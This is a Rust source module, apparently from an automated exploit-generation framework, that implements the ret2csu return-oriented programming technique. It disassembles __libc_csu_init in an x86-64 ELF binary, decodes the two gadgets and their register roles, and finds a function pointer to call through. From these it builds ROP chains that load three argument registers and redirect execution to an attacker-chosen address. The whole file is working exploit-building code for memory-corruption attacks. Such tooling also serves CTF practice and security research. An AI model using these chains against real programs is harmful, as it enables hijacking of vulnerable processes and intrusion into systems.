//! Ret2csu: three-argument calls through `__libc_csu_init`.
//!
//! Older glibc links a `__libc_csu_init` into every dynamic executable. Its
//! tail holds two gadgets:
//!
//! ```text
//! gadget2:  mov rdx, r14
//!           mov rsi, r13
//!           mov edi, r12d
//!           call qword ptr [r15+rbx*8]
//!           add rbx, 1
//!           cmp rbp, rbx
//!           jne gadget2
//!           add rsp, 8
//! gadget1:  pop rbx ; pop rbp ; pop r12 ; pop r13 ; pop r14 ; pop r15
//!           ret
//! ```
//!
//! Returning into gadget 1 loads six registers from the stack; returning
//! from there into gadget 2 moves three of them into the argument
//! registers and calls through a pointer table. If the called function
//! preserves the arguments, falling out of the loop runs the gadget 1
//! sequence once more and returns to an address of our choosing with
//! `rdi`, `rsi` and `rdx` set.
//!
//! The register assignment differs between compilers, so it is decoded
//! from each binary rather than assumed. The first argument usually goes
//! through a 32-bit `mov edi, ...` and is truncated to its low half.

use std::cell::RefCell;
use std::fmt;

use iced_x86::{FlowControl, InstructionInfoFactory, Mnemonic, OpAccess, OpKind, Register};

use crate::disasm::{self, DecodedInsn};
use crate::elf::ElfFile;
use crate::error::{Error, Result};
use crate::exploit::Exploit;
use crate::expr::{self, Expr, ExprRef};
use crate::payload;
use crate::rop_chain::RopSubchain;
use crate::technique::Technique;
use crate::types::X64Reg;

pub const CSU_INIT: &str = "__libc_csu_init";
pub const CSU_INIT_GADGET1: &str = "__libc_csu_init_gadget1";
pub const CSU_INIT_GADGET2: &str = "__libc_csu_init_gadget2";
pub const CSU_INIT_CALL_TARGET: &str = "__libc_csu_init_call_target";

const RET_ADDR_TAG: &str = "ret2csu_ret_addr";
const ARG_TAGS: [&str; 3] = ["ret2csu_arg1", "ret2csu_arg2", "ret2csu_arg3"];
const ARG_REGS: [X64Reg; 3] = [X64Reg::Rdi, X64Reg::Rsi, X64Reg::Rdx];

/// Bytes decoded when the routine's symbol has no size.
const CSU_SCAN_WINDOW: usize = 0x100;

/// Registers gadget 1 pops before returning.
const GADGET1_POPS: usize = 6;

/// Largest `add rsp, imm` accepted between the call loop and gadget 1.
const MAX_STACK_ADJUST: i64 = 0x100;

/// What was decoded from one binary's `__libc_csu_init`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsuLayout {
    pub func: u64,
    pub gadget1: u64,
    pub gadget2: u64,
    /// Registers gadget 1 pops, in stack order.
    pub gadget1_regs: Vec<X64Reg>,
    /// `(argument register, source register)` moves of gadget 2.
    pub gadget2_regs: Vec<(X64Reg, X64Reg)>,
    /// Base of the `call [base + index*8]` pointer table.
    pub call_base: X64Reg,
    pub call_index: X64Reg,
    /// Register the index is compared against after the call.
    pub loop_bound: X64Reg,
    /// Stack slots consumed between the call's return and the final `ret`.
    pub trailing_slots: usize,
}

impl CsuLayout {
    /// Which argument (0-based) a gadget 1 register ends up in.
    fn argument_fed_by(&self, reg: X64Reg) -> Option<usize> {
        self.gadget2_regs
            .iter()
            .find(|(_, src)| *src == reg)
            .and_then(|(dst, _)| ARG_REGS.iter().position(|a| a == dst))
    }
}

impl fmt::Display for CsuLayout {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "{:<28} {:#x}", CSU_INIT, self.func)?;
        writeln!(f, "{:<28} {:#x}", CSU_INIT_GADGET1, self.gadget1)?;
        writeln!(f, "{:<28} {:#x}", CSU_INIT_GADGET2, self.gadget2)?;
        let pops: Vec<&str> = self.gadget1_regs.iter().map(|r| r.name()).collect();
        writeln!(f, "gadget1 pops                 {}", pops.join(", "))?;
        for (dst, src) in &self.gadget2_regs {
            writeln!(f, "gadget2 moves                {} <- {}", dst, src)?;
        }
        writeln!(f, "call                         [{}+{}*8]", self.call_base, self.call_index)?;
        writeln!(f, "loop bound                   {}", self.loop_bound)?;
        write!(f, "trailing slots               {}", self.trailing_slots)
    }
}

/// Locate and decode `__libc_csu_init` in `elf`.
pub fn find_csu(elf: &ElfFile) -> std::result::Result<CsuLayout, String> {
    let (addr, code) = match elf.function_bytes(CSU_INIT) {
        Ok((func, code)) => (func.addr, code),
        Err(_) => {
            let addr = *elf
                .symbols()
                .get(CSU_INIT)
                .ok_or_else(|| format!("{} not found", CSU_INIT))?;
            (addr, elf.read(addr, CSU_SCAN_WINDOW).map_err(|e| e.to_string())?)
        }
    };
    parse_csu(addr, code)
}

/// Decode the two-gadget idiom from the routine's code.
pub fn parse_csu(func: u64, code: &[u8]) -> std::result::Result<CsuLayout, String> {
    let insns = disasm::decode_all(code, func);

    // call qword ptr [base + index*8]
    let call_pos = insns
        .iter()
        .position(|i| {
            i.insn.flow_control() == FlowControl::IndirectCall
                && i.insn.op0_kind() == OpKind::Memory
                && i.insn.memory_base() != Register::None
                && i.insn.memory_index() != Register::None
                && i.insn.memory_index_scale() == 8
                && i.insn.memory_displacement64() == 0
        })
        .ok_or("no indirect call through a pointer table")?;
    let call = &insns[call_pos];
    let call_base = gpr(call.insn.memory_base())?;
    let call_index = gpr(call.insn.memory_index())?;

    // movs filling the argument registers, walking backwards
    let mut start = call_pos;
    let mut gadget2_regs = Vec::new();
    while start > 0 {
        let Some((dst, src)) = reg_move(&insns[start - 1]) else { break };
        if !ARG_REGS.contains(&dst) {
            break;
        }
        gadget2_regs.insert(0, (dst, src));
        start -= 1;
    }
    for arg in ARG_REGS {
        if !gadget2_regs.iter().any(|(dst, _)| *dst == arg) {
            return Err(format!("gadget 2 doesn't load {}", arg));
        }
    }
    let gadget2 = insns[start].addr;

    // back-edge of the call loop and the comparison feeding it
    let jne_pos = insns[call_pos + 1..]
        .iter()
        .position(|i| i.is(Mnemonic::Jne))
        .map(|p| p + call_pos + 1)
        .ok_or("no loop back-edge after the call")?;
    let loop_bound = insns[call_pos + 1..jne_pos]
        .iter()
        .rev()
        .find(|i| i.is(Mnemonic::Cmp))
        .and_then(|cmp| loop_bound_of(cmp, call_index))
        .ok_or_else(|| format!("no cmp of {} against a loop bound", call_index))?;

    // epilogue: optional add rsp, imm then the pops before ret
    let mut pos = jne_pos + 1;
    let mut trailing_slots = 0;
    if let Some(adjust) = insns.get(pos).and_then(stack_adjust) {
        trailing_slots += adjust?;
        pos += 1;
    }
    let gadget1_pos = pos;
    let mut gadget1_regs = Vec::new();
    while let Some(reg) = insns.get(pos).and_then(popped_register) {
        gadget1_regs.push(reg);
        pos += 1;
    }
    match insns.get(pos) {
        Some(i) if i.insn.flow_control() == FlowControl::Return => {}
        _ => return Err("pop sequence doesn't end in ret".into()),
    }
    if gadget1_regs.len() != GADGET1_POPS {
        return Err(format!("expected {} pops, found {}", GADGET1_POPS, gadget1_regs.len()));
    }
    trailing_slots += gadget1_regs.len();

    let layout = CsuLayout {
        func,
        gadget1: insns[gadget1_pos].addr,
        gadget2,
        gadget1_regs,
        gadget2_regs,
        call_base,
        call_index,
        loop_bound,
        trailing_slots,
    };
    validate_layout(&layout)?;
    log::debug!("{} layout:\n{}", CSU_INIT, layout);
    Ok(layout)
}

fn gpr(reg: Register) -> std::result::Result<X64Reg, String> {
    X64Reg::from_iced(reg).ok_or_else(|| format!("unexpected register {:?}", reg))
}

fn reg_move(insn: &DecodedInsn) -> Option<(X64Reg, X64Reg)> {
    if !insn.is(Mnemonic::Mov)
        || insn.insn.op0_kind() != OpKind::Register
        || insn.insn.op1_kind() != OpKind::Register
    {
        return None;
    }
    Some((X64Reg::from_iced(insn.insn.op0_register())?, X64Reg::from_iced(insn.insn.op1_register())?))
}

fn loop_bound_of(cmp: &DecodedInsn, index: X64Reg) -> Option<X64Reg> {
    let (a, b) = (
        X64Reg::from_iced(cmp.insn.op0_register())?,
        X64Reg::from_iced(cmp.insn.op1_register())?,
    );
    match (a == index, b == index) {
        (true, false) => Some(b),
        (false, true) => Some(a),
        _ => None,
    }
}

/// Slots skipped by `add rsp, imm`. `Err` for an adjustment that isn't a
/// positive multiple of 8.
fn stack_adjust(insn: &DecodedInsn) -> Option<std::result::Result<usize, String>> {
    if !insn.is(Mnemonic::Add)
        || insn.insn.op0_register() != Register::RSP
        || insn.insn.op1_kind() == OpKind::Register
    {
        return None;
    }
    let imm = insn.insn.immediate(1) as i64;
    Some(if imm > 0 && imm % 8 == 0 && imm <= MAX_STACK_ADJUST {
        Ok((imm / 8) as usize)
    } else {
        Err(format!("unexpected stack adjustment: {}", insn.text()))
    })
}

fn popped_register(insn: &DecodedInsn) -> Option<X64Reg> {
    if insn.is(Mnemonic::Pop) && insn.insn.op0_kind() == OpKind::Register {
        X64Reg::from_iced(insn.insn.op0_register())
    } else {
        None
    }
}

fn validate_layout(layout: &CsuLayout) -> std::result::Result<(), String> {
    let mut roles = vec![layout.call_base, layout.call_index, layout.loop_bound];
    roles.extend(layout.gadget2_regs.iter().map(|(_, src)| *src));
    for (i, reg) in roles.iter().enumerate() {
        if roles[..i].contains(reg) {
            return Err(format!("{} plays two roles", reg));
        }
        if !layout.gadget1_regs.contains(reg) {
            return Err(format!("{} is not popped by gadget 1", reg));
        }
    }
    Ok(())
}

/// Check that `code` (a function at `addr`) can be called between the two
/// gadgets: it returns, makes no calls, and writes none of `preserved`.
pub fn validate_call_target(
    addr: u64,
    code: &[u8],
    preserved: &[X64Reg],
) -> std::result::Result<(), String> {
    let mut factory = InstructionInfoFactory::new();
    for insn in disasm::decode_all(code, addr) {
        match insn.insn.flow_control() {
            FlowControl::Return => return Ok(()),
            FlowControl::Next => {}
            _ => return Err(format!("transfers control at {:#x}: {}", insn.addr, insn.text())),
        }
        for used in factory.info(&insn.insn).used_registers() {
            let written = matches!(
                used.access(),
                OpAccess::Write | OpAccess::CondWrite | OpAccess::ReadWrite | OpAccess::ReadCondWrite
            );
            if let Some(reg) = X64Reg::from_iced(used.register()) {
                if written && preserved.contains(&reg) {
                    return Err(format!("clobbers {} at {:#x}: {}", reg, insn.addr, insn.text()));
                }
            }
        }
    }
    Err(format!("no ret found at {:#x}", addr))
}

/// Find a pointer to `func_name` usable as gadget 2's call target.
pub fn search_call_target(
    elf: &ElfFile,
    func_name: &str,
    layout: &CsuLayout,
) -> std::result::Result<u64, String> {
    let (func, code) = elf.function_bytes(func_name).map_err(|e| e.to_string())?;
    let mut preserved = ARG_REGS.to_vec();
    preserved.extend([layout.call_index, layout.loop_bound]);
    validate_call_target(func.addr, code, &preserved)
        .map_err(|e| format!("{} is unusable as call target: {}", func_name, e))?;

    elf.search_u64(func.addr)
        .first()
        .copied()
        .ok_or_else(|| format!("no pointer to {} in the binary", func_name))
}

struct Template {
    call_target: u64,
    base: u64,
    subchains: Vec<RopSubchain>,
}

/// Return address and arguments for [`Technique::symbolic_rop_payload_list`].
#[derive(Debug, Clone)]
pub struct CsuCall {
    pub ret: ExprRef,
    pub args: [ExprRef; 3],
}

pub struct Ret2csu {
    layout: std::result::Result<CsuLayout, String>,
    user_call_target: Option<u64>,
    fallback_call_target: Option<std::result::Result<u64, String>>,
    resolved: bool,
    call: Option<CsuCall>,
    template: RefCell<Option<Template>>,
}

impl Ret2csu {
    pub fn new(ctx: &Exploit) -> Self {
        let layout = find_csu(ctx.elf());
        if let Err(reason) = &layout {
            log::info!("Ret2csu unavailable: {}", reason);
        }
        Ret2csu {
            layout,
            user_call_target: None,
            fallback_call_target: None,
            resolved: false,
            call: None,
            template: RefCell::new(None),
        }
    }

    /// Use `target` (an ELF offset holding a function pointer) for the
    /// gadget 2 call. Drops any cached template.
    pub fn set_gadget2_call_target(&mut self, target: u64) {
        self.user_call_target = Some(target);
        *self.template.get_mut() = None;
    }

    /// Call made by [`Technique::symbolic_rop_payload_list`].
    pub fn set_call(&mut self, ret: ExprRef, arg1: ExprRef, arg2: ExprRef, arg3: ExprRef) {
        self.call = Some(CsuCall { ret, args: [arg1, arg2, arg3] });
    }

    pub fn call_target(&self) -> Option<u64> {
        self.user_call_target
            .or_else(|| self.fallback_call_target.as_ref().and_then(|t| t.as_ref().ok().copied()))
    }

    pub fn is_template_cached(&self) -> bool {
        self.template.borrow().is_some()
    }

    /// Why the technique can't be used, if it can't.
    pub fn infeasibility(&self) -> Option<String> {
        if let Err(reason) = &self.layout {
            return Some(reason.clone());
        }
        if !self.resolved {
            return Some("gadgets not resolved".into());
        }
        if self.call_target().is_none() {
            return Some(match &self.fallback_call_target {
                Some(Err(reason)) => reason.clone(),
                _ => "no call target".into(),
            });
        }
        None
    }

    /// Subchains calling through gadget 2 with `arg1..arg3`, then returning
    /// to `ret`.
    pub fn rop_subchains(
        &self,
        ctx: &Exploit,
        ret: ExprRef,
        arg1: ExprRef,
        arg2: ExprRef,
        arg3: ExprRef,
    ) -> Result<Vec<RopSubchain>> {
        let call = CsuCall { ret, args: [arg1, arg2, arg3] };
        let subchains = self.instantiate(ctx, &call)?;
        payload::check_resolved(&subchains)?;
        Ok(subchains)
    }

    pub fn rop_subchains_concrete(
        &self,
        ctx: &Exploit,
        ret: u64,
        arg1: u64,
        arg2: u64,
        arg3: u64,
    ) -> Result<Vec<RopSubchain>> {
        self.rop_subchains(
            ctx,
            Expr::constant(ret),
            Expr::constant(arg1),
            Expr::constant(arg2),
            Expr::constant(arg3),
        )
    }

    fn instantiate(&self, ctx: &Exploit, call: &CsuCall) -> Result<Vec<RopSubchain>> {
        let template = self.template(ctx)?;
        let mut fill = |tag: &str| {
            if tag == RET_ADDR_TAG {
                return Some(call.ret.clone());
            }
            ARG_TAGS.iter().position(|t| *t == tag).map(|i| call.args[i].clone())
        };
        Ok(template
            .iter()
            .map(|chain| chain.iter().map(|slot| expr::substitute(slot, &mut fill)).collect())
            .collect())
    }

    /// The parametrized subchains, rebuilt only when the call target or
    /// the ELF base changed.
    fn template(&self, ctx: &Exploit) -> Result<Vec<RopSubchain>> {
        let infeasible = |reason: String| Error::Infeasible { technique: "Ret2csu".into(), reason };
        let layout = self.layout.as_ref().map_err(|r| infeasible(r.clone()))?;
        let call_target = self
            .call_target()
            .ok_or_else(|| infeasible(self.infeasibility().unwrap_or_default()))?;
        let base = ctx.elf().base();

        if let Some(cached) = self.template.borrow().as_ref() {
            if cached.call_target == call_target && cached.base == base {
                return Ok(cached.subchains.clone());
            }
        }

        let subchains = build_template(ctx, layout, call_target)?;
        *self.template.borrow_mut() = Some(Template {
            call_target,
            base,
            subchains: subchains.clone(),
        });
        Ok(subchains)
    }
}

fn build_template(ctx: &Exploit, layout: &CsuLayout, call_target: u64) -> Result<Vec<RopSubchain>> {
    let elf = ctx.elf();
    let gadget1 = Expr::from_symtab(elf, ctx.symtab(), CSU_INIT_GADGET1)?;
    let gadget2 = Expr::from_symtab(elf, ctx.symtab(), CSU_INIT_GADGET2)?;
    let target = Expr::base_offset(elf.base(), call_target, elf.base_tag(), CSU_INIT_CALL_TARGET);

    let mut first = vec![gadget1];
    for &reg in &layout.gadget1_regs {
        first.push(if reg == layout.call_index {
            Expr::constant(0)
        } else if reg == layout.loop_bound {
            Expr::constant(1)
        } else if reg == layout.call_base {
            target.clone()
        } else if let Some(arg) = layout.argument_fed_by(reg) {
            Expr::placeholder(ARG_TAGS[arg])
        } else {
            Expr::placeholder(format!("ret2csu_gadget1_{}", reg))
        });
    }

    let mut second = vec![gadget2];
    second.extend((0..layout.trailing_slots).map(|_| Expr::constant(0)));
    second.push(Expr::placeholder(RET_ADDR_TAG));

    Ok(vec![first, second])
}

impl Technique for Ret2csu {
    fn name(&self) -> &'static str {
        "Ret2csu"
    }

    fn check_requirements(&self, _ctx: &Exploit) -> bool {
        self.infeasibility().is_none()
    }

    fn resolve_required_gadgets(&mut self, ctx: &mut Exploit) {
        let Ok(layout) = &self.layout else { return };

        if self.user_call_target.is_none() {
            let found = search_call_target(ctx.elf(), &ctx.config().csu_fallback_function, layout);
            if let Err(reason) = &found {
                log::info!("Ret2csu: {}", reason);
            }
            self.fallback_call_target = Some(found);
        }

        ctx.register_symbol(CSU_INIT, layout.func);
        ctx.register_symbol(CSU_INIT_GADGET1, layout.gadget1);
        ctx.register_symbol(CSU_INIT_GADGET2, layout.gadget2);
        if let Some(target) = self.call_target() {
            ctx.register_symbol(CSU_INIT_CALL_TARGET, target);
        }
        self.resolved = true;
    }

    /// The call target is printed from the technique itself: it may have
    /// been retargeted after the symbol table was filled.
    fn auxiliary_functions(&self, ctx: &Exploit) -> String {
        let mut out: String = [CSU_INIT, CSU_INIT_GADGET1, CSU_INIT_GADGET2]
            .iter()
            .filter_map(|name| ctx.symtab().get(*name).map(|v| format!("{} = {:#x}\n", name, v)))
            .collect();
        if let Some(target) = self.call_target() {
            out.push_str(&format!("{} = {:#x}\n", CSU_INIT_CALL_TARGET, target));
        }
        out
    }

    /// The configured call, or the bare template (placeholders for the
    /// return address and arguments) if none was set.
    fn symbolic_rop_payload_list(&self, ctx: &Exploit) -> Result<Vec<RopSubchain>> {
        match &self.call {
            Some(call) => self.instantiate(ctx, call),
            None => self.template(ctx),
        }
    }
}
